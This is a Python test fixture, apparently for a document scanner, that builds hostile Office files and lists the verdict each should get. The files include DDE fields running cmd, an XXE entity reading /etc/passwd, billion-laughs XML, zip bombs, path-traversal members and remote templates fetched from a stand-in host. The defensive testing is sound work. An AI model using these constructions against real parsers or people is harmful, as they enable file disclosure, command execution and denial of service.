"""Office files that do something, reach outside, or blow up."""

import io
import random
import struct
import warnings
import zipfile

from assessment.evidence.checking.verdict import Reason
from tests.evidence.files import MAINS, OFFICE, office, types
from tests.evidence.hostile.common import HARMLESS, OLE, fitting_zip


def rels(target: str, kind: str = "attachedTemplate", mode: str = "External") -> dict[str, str]:
    return {
        "word/_rels/document.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
        )
    }


def word(body: str, **more) -> bytes:
    return office(main=f"<w:document xmlns:w='w'><w:body>{body}</w:body></w:document>", **more)


def instruction(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def field(*pieces: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + "".join(map(instruction, pieces))
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )  # fmt: skip


def sheet(formula: str) -> bytes:
    return office(
        "xlsx", {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>"}
    )


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]><l>&j;</l>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'


def zip_bomb() -> bytes:
    return office(parts={"word/media/a.bin": bytes(90_000_000)})


def lying_zip() -> bytes:
    """Its directory says the part is small; unpacked it is not."""
    whole = bytearray(office(parts={"word/media/a.bin": bytes(30_000_000)}))
    size = struct.pack("<I", 30_000_000)
    at = 0
    while (at := whole.find(size, at)) >= 0:
        whole[at : at + 4] = struct.pack("<I", 1000)
        at += 4
    return bytes(whole)


def overlapping() -> bytes:
    """Many names for the same bytes: the directory points a hundred times at one part."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types())
        archive.writestr("word/document.xml", MAINS["docx"][2])
        archive.writestr("word/media/a.bin", bytes(10_000_000))
        first = archive.getinfo("word/media/a.bin")
        for number in range(100):
            more = zipfile.ZipInfo(f"word/media/{number}.bin")
            for name in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
                setattr(more, name, getattr(first, name))
            archive.filelist.append(more)
            archive.NameToInfo[more.filename] = more
    return held.getvalue()


def deep() -> bytes:
    inner = office("xlsx")
    for _level in range(4):
        inner = office("xlsx", {"xl/embeddings/a.xlsx": inner})
    return office(parts={"word/embeddings/a.xlsx": inner})


def encrypted_office() -> bytes:
    whole = bytearray(office())
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = 0
        while (place := whole.find(signature, place)) >= 0:
            whole[place + at] |= 1
            place += 4
    return bytes(whole)


def link_member() -> bytes:
    held = io.BytesIO(office())
    with zipfile.ZipFile(held, "a") as archive:
        one = zipfile.ZipInfo("word/link")
        one.external_attr = 0o120777 << 16
        archive.writestr(one, "/etc/passwd")
    return held.getvalue()


def twice() -> bytes:
    held = io.BytesIO(office())
    with zipfile.ZipFile(held, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", XXE)
    return held.getvalue()


def utf16_laughs() -> bytes:
    return office(
        parts={"word/settings.xml": LAUGHS.replace('<?xml version="1.0"?>', "").encode("utf-16")}
    )


NOISE = random.Random(2).randbytes(9000)  # noqa: S311
DOCUMENTS = [
    ("a macro", "a.docx", lambda: office(parts={"word/vbaProject.bin": OLE}), Reason.MACRO),
    ("a macro under another name", "a.docx", lambda: office(
        parts={"word/x.bin": b"x"}, more_types='<Override PartName="/word/x.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>'), Reason.MACRO),
    ("a docm", "a.docm", office, Reason.MACRO),
    ("a docm as docx", "a.docx", lambda: office(main_types=types().replace(
        f"{OFFICE}wordprocessingml.document.main".encode(), b"application/vnd.ms-word.document.macroEnabled.main")),
     Reason.MACRO),
    ("a template as docx", "a.docx", lambda: office(main_types=types().replace(
        b"document.main", b"template.main")), Reason.TYPE),
    ("a macro sheet", "a.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}), Reason.MACRO),
    ("ActiveX", "a.docx", lambda: office(parts={"word/activeX/activeX1.xml": "<a/>"}), Reason.MACRO),
    ("an embedded object", "a.docx", lambda: office(parts={"word/embeddings/oleObject1.bin": OLE}), Reason.EMBEDDED),
    ("an object under another name", "a.docx", lambda: office(parts={"word/media/image1.png": OLE}), Reason.EMBEDDED),
    ("a program as picture", "a.docx", lambda: office(parts={"word/media/image1.png": b"MZ" + bytes(99)}),
     Reason.EMBEDDED),
    ("a zip as picture", "a.docx", lambda: office(parts={"word/media/image1.png": fitting_zip()}), Reason.EMBEDDED),
    ("a template from outside", "a.docx", lambda: office(parts=rels("https://x.test/a.dotm")), Reason.EXTERNAL),
    ("a template of a share", "a.docx", lambda: office(parts=rels("\\\\x\\a.dotm")), Reason.EXTERNAL),
    ("a picture from outside", "a.docx", lambda: office(parts=rels("https://x.test/a.png", "image")), Reason.EXTERNAL),
    ("an object from outside", "a.docx", lambda: office(parts=rels("https://x.test/a", "oleObject")), Reason.EMBEDDED),
    ("a frame from outside", "a.docx", lambda: office(parts=rels("https://x.test/a", "frame")), Reason.EXTERNAL),
    ("a link to a program", "a.docx", lambda: office(parts=rels("file:///C:/x.exe", "hyperlink")), Reason.EXTERNAL),
    ("a link to a share", "a.docx", lambda: office(parts=rels("\\\\x\\y", "hyperlink")), Reason.EXTERNAL),
    ("a link with a script", "a.docx", lambda: office(parts=rels("javascript:alert(1)", "hyperlink")),
     Reason.EXTERNAL),
    ("foreign pieces", "a.docx", lambda: office(parts=rels("/word/a.html", "aFChunk", "Internal")), Reason.ACTIVE),
    ("an add-in from the web", "a.docx", lambda: office(parts={"word/webextensions/taskpanes.xml": "<a/>"}),
     Reason.ACTIVE),
    ("links to other workbooks", "a.xlsx", lambda: office("xlsx", {"xl/externalLinks/externalLink1.xml": "<a/>"}),
     Reason.EXTERNAL),
    ("data connections", "a.xlsx", lambda: office("xlsx", {"xl/connections.xml": "<a/>"}), Reason.EXTERNAL),
    ("DDE in a field", "a.docx", lambda: word(field("DDEAUTO c:\\\\windows\\\\cmd.exe")), Reason.ACTIVE),
    ("DDE in pieces", "a.docx", lambda: word(field(" D", "DE", "AUTO cmd")), Reason.ACTIVE),
    ("DDE in a simple field", "a.docx", lambda: word('<w:fldSimple w:instr=" DDE cmd /c calc"/>'), Reason.ACTIVE),
    ("DDE in a formula", "a.xlsx", lambda: sheet("cmd|'/c calc'!A0"), Reason.ACTIVE),
    ("a fetching formula", "a.xlsx", lambda: sheet("WEBSERVICE(&quot;https://x.test&quot;)"), Reason.ACTIVE),
    ("a billion laughs", "a.docx", lambda: office(parts={"word/settings.xml": LAUGHS}), Reason.DTD),
    ("laughs in UTF-16", "a.docx", utf16_laughs, Reason.DTD),
    ("an entity from a file", "a.docx", lambda: office(main=XXE), Reason.DTD),
    ("an entity in the types", "a.docx", lambda: office(main_types=XXE), Reason.DTD),
    ("broken XML", "a.docx", lambda: office(main="<w:document>"), Reason.DAMAGED),
    ("a zip bomb", "a.docx", zip_bomb, Reason.HEAVY),
    ("a larger zip bomb", "a.docx", lambda: office(parts={f"word/media/{n}.bin": bytes(40_000_000)
                                                          for n in range(3)}), Reason.HEAVY),
    ("a zip that lies", "a.docx", lying_zip, Reason.DAMAGED),
    ("a hundred names for one part", "a.docx", overlapping, Reason.HEAVY),
    ("2,001 parts", "a.docx", lambda: office(parts={f"word/{n}.xml": "<a/>" for n in range(2001)}), Reason.HEAVY),
    ("workbooks in workbooks", "a.docx", deep, Reason.EMBEDDED),
    ("a part above the folder", "a.docx", lambda: office(parts={"../../evil.xml": "<a/>"}), Reason.DAMAGED),
    ("a part at the root", "a.docx", lambda: office(parts={"/etc/evil.xml": "<a/>"}), Reason.DAMAGED),
    ("a part that is a link", "a.docx", link_member, Reason.DAMAGED),
    ("a part twice", "a.docx", twice, Reason.DAMAGED),
    ("locked Office", "a.docx", encrypted_office, Reason.ENCRYPTED),
    ("a cut docx", "a.docx", lambda: office(parts={"word/media/a.bin": NOISE})[:-200],
     Reason.DAMAGED),
    ("a zip without parts", "a.docx", lambda: b"PK\x03\x04" + bytes(200), Reason.DAMAGED),
    ("an ordinary link in Word", "a.docx", lambda: office(parts=rels("https://surabaya.go.id", "hyperlink")),
     HARMLESS),
    ("a page number", "a.docx", lambda: word(field(" PAGE ")), HARMLESS),
    ("a bar in a text", "a.xlsx", lambda: sheet("A1&amp;&quot;|&quot;&amp;B1"), HARMLESS),
    ("numbers behind a chart", "a.docx", lambda: office(parts={"word/embeddings/a.xlsx": office("xlsx")}), HARMLESS),
]  # fmt: skip
